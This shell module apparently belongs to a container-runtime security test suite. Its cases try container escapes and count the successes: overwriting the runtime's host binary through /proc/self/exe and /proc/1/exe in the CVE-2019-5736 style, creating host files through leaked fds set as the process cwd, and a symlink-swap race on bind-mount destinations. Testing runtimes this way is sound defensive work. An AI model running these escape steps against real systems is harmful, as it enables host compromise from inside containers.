# Attacks from inside a container: the runtime's binary through /proc/PID/exe,
# host directories through leaked fds, host paths through a rootfs symlink
# swapped under a mount. Sourced by run.sh; each case_* records one result.
# shellcheck shell=bash

# exe_round_end ID RAN : counts a round that could not run (RAN 0), a damaged
# victim and a held binary, then removes the container (updates the caller's
# broken, why, hits and held).
exe_round_end() {
  [ "$2" = 1 ] || { broken=$((broken + 1)); why=$(why); }
  victim_damaged && hits=$((hits + 1))
  rt_delete "$1"
  grep -qE 'holding|overwrote' "$D/result" 2>/dev/null && held=$((held + 1))
  scrub "$1"
}

# exe_result CASE N : the case's result line from the caller's counters.
exe_result() {
  result "$1" "$hits" "$2" "attacker held the binary $held/$2 times$([ "$broken" = 0 ] || echo "; $broken runs failed: ${why:0:160}")"
}

# exe_attack CASE EXEC_FLAGS... : the container's init watches /proc; an
# `exec` (with EXEC_FLAGS) of /bin/true starts a process in the container.
# The attacker has replaced /bin/true by a script run by /proc/self/exe (the
# CVE-2019-5736 way): whatever execs it runs its own binary once more, now
# with the container's capabilities. If that binary is the runtime's host
# file (the helper, or the runtime itself), the attacker takes an O_PATH
# handle on it and reopens it for writing as soon as nothing executes it.
# Counts damaged victim copies. The attack rewrites /bin/true, so these cases
# get a rootfs of their own.
exe_attack() {
  local name=$1 n i id hits=0 broken=0 why='' held=0 ROOTFS=$W/$RT/rootfs-exe
  shift
  [ -d "$ROOTFS" ] || { build_rootfs "$ROOTFS" && cp "$W/bin/sec-overwrite" "$ROOTFS/bin/"; }
  n=$(scaled 6)
  for ((i = 1; i <= n; i++)); do
    id=$name-$i
    bundle "$id" '["/bin/sec-overwrite", "watch", "/data/result", "30", "/bin/true"]'
    rt "$id" 30 create --bundle "$B" "$id"
    [ "$RC" = 0 ] && rt "$id" 30 start "$id"
    if [ "$RC" = 0 ] && soon 100 test -e "$D/ready"; then
      # Its status is the attacker's business (the planted script fails).
      rt "$id" 30 exec "$@" "$id" /bin/true
      # After exec returns nothing runs the binary: a held handle writes now.
      soon 5 grep -q overwrote "$D/result"
      exe_round_end "$id" 1
    else
      exe_round_end "$id" 0
    fi
  done
  exe_result "$name" "$n"
}
case_exe_overwrite_exec() { exe_attack exe-overwrite-exec; }
case_exe_overwrite_exec_detach() { exe_attack exe-overwrite-exec-detach --detach; }

# A process exec'd into a created container holds /proc/1/exe (the init,
# parked before the user program): when `start` makes the init exec the user
# program, the runtime's file is free to write.
case_exe_overwrite_created_init() {
  local name=exe-overwrite-created-init n i id hits=0 broken=0 why='' held=0
  n=$(scaled 6)
  for ((i = 1; i <= n; i++)); do
    id=ow-init-$i
    bundle "$id" '["/bin/sleep", "1000"]'
    rt "$id" 30 create --bundle "$B" "$id"
    [ "$RC" = 0 ] && rt "$id" 30 exec --detach "$id" /bin/sec-overwrite pid 1 /data/result 30
    if [ "$RC" = 0 ] && soon 100 test -e "$D/ready" -o -e "$D/result"; then
      rt "$id" 30 start "$id"
      soon 5 grep -q overwrote "$D/result"
      exe_round_end "$id" 1
    else
      exe_round_end "$id" 0
    fi
  done
  exe_result "$name" "$n"
}

# escaped NAME : a file or directory named NAME* appeared outside the rootfs:
# anywhere in the work dir (state dirs, bundles, the runtime's cwd) or in a
# cgroup directory (a leaked cgroupfs fd). What is found is removed.
escaped() {
  local found
  found=$({
    find "$W" -xdev -name "$1*" ! -path "$ROOTFS/*"
    find /sys/fs/cgroup -maxdepth 5 -name "$1*"
  } 2>/dev/null)
  rm -rf "${ROOTFS:?}/$1"*
  [ -n "$found" ] || return 1
  echo "$found" | sort -r | while read -r f; do rmdir "$f" 2>/dev/null || rm -rf "$f"; done
  note "$RT: created outside the rootfs: $(echo "$found" | tr '\n' ' ')"
  return 0
}

# fd-leak: the container's cwd is an fd the runtime may have left open
# (process.cwd /proc/self/fd/N, N = 3..8, and a rootfs symlink to
# /proc/self/fd/4), and a process exec'd into a created container creates
# a file through each of the init's fds (/proc/1/fd/*). Counts attempts that
# created a file outside the rootfs.
case_fd_leak() {
  local hits=0 n=0 id t
  for t in 3 4 5 6 7 8 symlink; do
    id=fd-cwd-$t
    n=$((n + 1))
    bundle "$id" "[\"sh\", \"-c\", \"touch sec-escape-$id; mkdir sec-escape-$id.d\"]" \
      ".process.cwd = \"$([ "$t" = symlink ] && echo /sec-fd4 || echo "/proc/self/fd/$t")\""
    rt "$id" 20 run --bundle "$B" "$id"
    # Before delete, which removes the state dir where such a file may be.
    escaped "sec-escape-$id" && hits=$((hits + 1))
    rt_delete "$id"
    scrub "$id"
  done
  id=fd-pid1
  n=$((n + 1))
  bundle "$id" '["/bin/sleep", "1000"]'
  rt "$id" 30 create --bundle "$B" "$id"
  rt "$id" 20 exec "$id" sh -c "for f in /proc/1/fd/*; do touch \"\$f/sec-escape-$id\"; mkdir \"\$f/sec-escape-$id.d\"; done 2>/dev/null; true"
  escaped "sec-escape-$id" && hits=$((hits + 1))
  rt_delete "$id"
  scrub "$id"
  result fd-leak "$hits" "$n"
}

# mount-race: each bundle bind-mounts a host dir at /race/a/dst-ID-1 .. 4
# (16 directories deeper) while a swapper exchanges /race/a (a directory) with /race/b (a symlink to
# a host directory outside the rootfs), as another container sharing the
# volume could; 40 creates. Counts the dst-ID-K paths created
# or mounted on in the host directory, out of all the mounts asked for.
MOUNTS_PER_CREATE=4
# Components below dst-ID-K: the runtime checks each while resolving the
# destination, which widens the window between its check of /race/a and
# its use of it (the swapper gets more turns in it).
DEEP=$(printf '/d%.0s' $(seq 16))
race_one() {
  local id=$1 target=$2 k hit=0
  like "$id"
  rt "$id" 30 create --bundle "$B" "$id"
  [ "$RC" = 0 ] || : >"$W/$RT/$id.failed"
  for ((k = 1; k <= MOUNTS_PER_CREATE; k++)); do
    if [ -e "$target/dst-$id-$k" ] || grep -qF " $target/dst-$id-$k " /proc/self/mountinfo; then hit=$((hit + 1)); fi
  done
  echo "$hit" >"$W/$RT/$id.hits"
  rt_delete "$id"
}
case_mount_race() {
  local n i hits failed target=$W/$RT/host-target src=$W/$RT/race-src swp
  n=$(scaled 40)
  mkdir -p "$target" "$src" "$ROOTFS/race/a"
  ln -sfn "$target" "$ROOTFS/race/b"
  bundle @ID@ '["/bin/sleep", "1000"]' \
    ".mounts += [range(1; $MOUNTS_PER_CREATE + 1) | {destination: \"/race/a/dst-@ID@-\\(.)$DEEP\", type: \"bind\", source: \"$src\", options: [\"rbind\", \"rw\"]}]"
  # The race needs the swapper running while the runtime resolves and then
  # uses the path: creates run one at a time, so on 2 cores each has one.
  "$W/bin/sec-swapper" "$ROOTFS/race" a b 600 &
  swp=$!
  for ((i = 1; i <= n; i++)); do race_one "race-$i" "$target"; done
  kill "$swp" 2>/dev/null
  wait "$swp" 2>/dev/null
  hits=$(cat "$W/$RT"/race-*.hits 2>/dev/null | awk '{ s += $1 } END { print s + 0 }')
  failed=$(find "$W/$RT" -maxdepth 1 -name 'race-*.failed' | wc -l)
  [ "$hits" = 0 ] || note "$RT: created in the host dir: $(ls "$target" | tr '\n' ' ')"
  awk -v t="$target" 'index($5, t) == 1 {print $5}' /proc/self/mountinfo | sort -r | xargs -r umount -l
  scrub_all
  rm -rf "${target:?}" "$ROOTFS/race" "$W/$RT"/race-*.hits "$W/$RT"/race-*.failed
  result mount-race "$hits" $((n * MOUNTS_PER_CREATE)) "$n creates of $MOUNTS_PER_CREATE mounts$([ "$failed" = 0 ] || echo ", $failed failed")"
}
